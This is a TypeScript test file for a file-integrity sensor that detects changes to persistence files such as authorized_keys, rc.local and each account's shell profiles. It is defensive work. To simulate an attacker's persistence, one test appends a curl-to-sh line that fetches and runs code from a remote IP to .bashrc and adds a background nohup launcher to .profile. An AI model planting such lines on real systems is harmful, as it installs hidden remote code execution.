// A persistence file rewritten with identical content, or whose inode, mtime, owner or mode changed,
// is a change; every account's own persistence files are watched through passwd. Real files in a
// temp folder, the real sensor with its real watchers.
import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { mkdtempSync, rmSync, writeFileSync, renameSync, mkdirSync, chmodSync, chownSync, utimesSync, statSync, appendFileSync } from 'node:fs';
import { createHash } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { vigil } from '@vigil/proto';
import { FimSensor } from './fim-sensor.js';
import { memoryContext, type MemoryContext } from '../common/test-context.js';

let dir: string;
beforeEach(() => void (dir = mkdtempSync(join(tmpdir(), `vigil-fim-p-${process.pid}-`))));
afterEach(() => rmSync(dir, { recursive: true, force: true }));

const sha = (s: string) => createHash('sha256').update(s).digest('hex');
const changes = (ctx: MemoryContext) => ctx.sink.events.filter((e) => e.fileChange).map((e) => e.fileChange!);

async function until(cond: () => boolean, what: string): Promise<void> {
  for (let i = 0; i < 400 && !cond(); i++) await new Promise((r) => setTimeout(r, 25));
  if (!cond()) throw new Error(`timed out waiting for ${what}`);
}

const KEYS = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly alice@laptop\n';

describe('file integrity: what counts as a change of a persistence file', () => {
  it('a file rewritten with identical content (new inode) is a modification with equal hashes', async () => {
    const f = join(dir, 'authorized_keys');
    writeFileSync(f, KEYS);
    const other = join(dir, 'rc.local');
    writeFileSync(other, '#!/bin/sh\nexit 0\n');
    const ctx = memoryContext(join(dir, 'state'));
    const s = new FimSensor({
      builtinWatches: false,
      authorizedKeys: false,
      extraPaths: [
        { path: f, watch: 'ssh_keys' },
        { path: other, watch: 'rc_local' },
      ],
      settleMs: 50,
      verifyMs: 0,
    });
    await s.start(ctx);
    writeFileSync(`${f}.new`, KEYS);
    renameSync(`${f}.new`, f);
    await until(() => changes(ctx).length > 0, 'file change');
    await s.stop();
    const c = changes(ctx);
    expect(c).toHaveLength(1); // rc.local, untouched, is not reported
    expect(c[0]).toMatchObject({ path: f, action: vigil.v1.FileAction.MODIFIED, watch: 'ssh_keys' });
    expect(c[0]!.before!.sha256).toBe(sha(KEYS));
    expect(c[0]!.after!.sha256).toBe(sha(KEYS));
    expect(c[0]!.after!.inode).not.toBe(c[0]!.before!.inode);
  });

  it('a new mtime with the same bytes is a modification; a new mode or owner is an attributes change', async () => {
    const d = join(dir, 'profile.d');
    mkdirSync(d);
    const touched = join(d, 'touched.sh');
    const moded = join(d, 'moded.sh');
    const owned = join(d, 'owned.sh');
    for (const p of [touched, moded, owned]) writeFileSync(p, 'export PATH=$PATH:/opt/bin\n');
    const ctx = memoryContext(join(dir, 'state'));
    const s = new FimSensor({ builtinWatches: false, authorizedKeys: false, extraPaths: [{ path: d, watch: 'shell_profile' }], settleMs: 50, verifyMs: 0 });
    await s.start(ctx);
    const past = new Date(Date.now() - 86_400_000);
    utimesSync(touched, past, past);
    chmodSync(moded, 0o4755);
    const root = process.getuid?.() === 0;
    if (root) chownSync(owned, 4242, 4242);
    const want = root ? 3 : 2;
    await until(() => changes(ctx).length >= want, `${want} changes`);
    await s.flush();
    await s.stop();
    const got = Object.fromEntries(changes(ctx).map((c) => [c.path!.slice(d.length + 1), c]));
    expect(Object.keys(got).sort()).toEqual(root ? ['moded.sh', 'owned.sh', 'touched.sh'] : ['moded.sh', 'touched.sh']);
    expect(got['touched.sh']).toMatchObject({ action: vigil.v1.FileAction.MODIFIED });
    expect(got['touched.sh']!.before!.sha256).toBe(got['touched.sh']!.after!.sha256);
    expect(got['touched.sh']!.after!.mtimeMs).toBe(Math.floor(statSync(touched).mtimeMs));
    expect(got['moded.sh']).toMatchObject({ action: vigil.v1.FileAction.ATTRIBUTES });
    expect(got['moded.sh']!.after!.mode! & 0o7777).toBe(0o4755);
    if (root) expect(got['owned.sh']).toMatchObject({ action: vigil.v1.FileAction.ATTRIBUTES, after: { uid: 4242, gid: 4242 } });
  });

  it("watches every account's shell rc files and authorized_keys, found through passwd", async () => {
    const home = join(dir, 'home', 'alice');
    mkdirSync(join(home, '.ssh'), { recursive: true });
    writeFileSync(join(home, '.bashrc'), 'alias ll="ls -l"\n');
    writeFileSync(join(home, '.ssh', 'authorized_keys'), KEYS);
    const passwd = join(dir, 'passwd');
    writeFileSync(passwd, `alice:x:1000:1000::${home}:/bin/bash\nnobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n`);
    const ctx = memoryContext(join(dir, 'state'));
    const s = new FimSensor({ builtinWatches: false, authorizedKeys: true, passwdPath: passwd, settleMs: 50, verifyMs: 0 });
    await s.start(ctx);
    expect(s.watches.map((w) => w.path)).toEqual(
      expect.arrayContaining([
        join(home, '.bashrc'),
        join(home, '.profile'),
        join(home, '.zshrc'),
        join(home, '.ssh/authorized_keys'),
        join(home, '.config/autostart'),
      ]),
    );
    expect(s.watches.some((w) => w.path.startsWith('/nonexistent'))).toBe(false);
    appendFileSync(join(home, '.bashrc'), 'curl -s http://203.0.113.5/x | sh &\n');
    writeFileSync(join(home, '.profile'), 'nohup /tmp/.x &\n');
    writeFileSync(`${join(home, '.ssh', 'authorized_keys')}.tmp`, KEYS);
    renameSync(`${join(home, '.ssh', 'authorized_keys')}.tmp`, join(home, '.ssh', 'authorized_keys'));
    await until(() => changes(ctx).length >= 3, 'three changes');
    await s.flush();
    await s.stop();
    const got = changes(ctx)
      .map((c) => [c.path!.slice(home.length + 1), c.action, c.watch])
      .sort();
    expect(got).toEqual([
      ['.bashrc', vigil.v1.FileAction.MODIFIED, 'shell_profile'],
      ['.profile', vigil.v1.FileAction.CREATED, 'shell_profile'],
      ['.ssh/authorized_keys', vigil.v1.FileAction.MODIFIED, 'ssh_keys'],
    ]);
  });
});
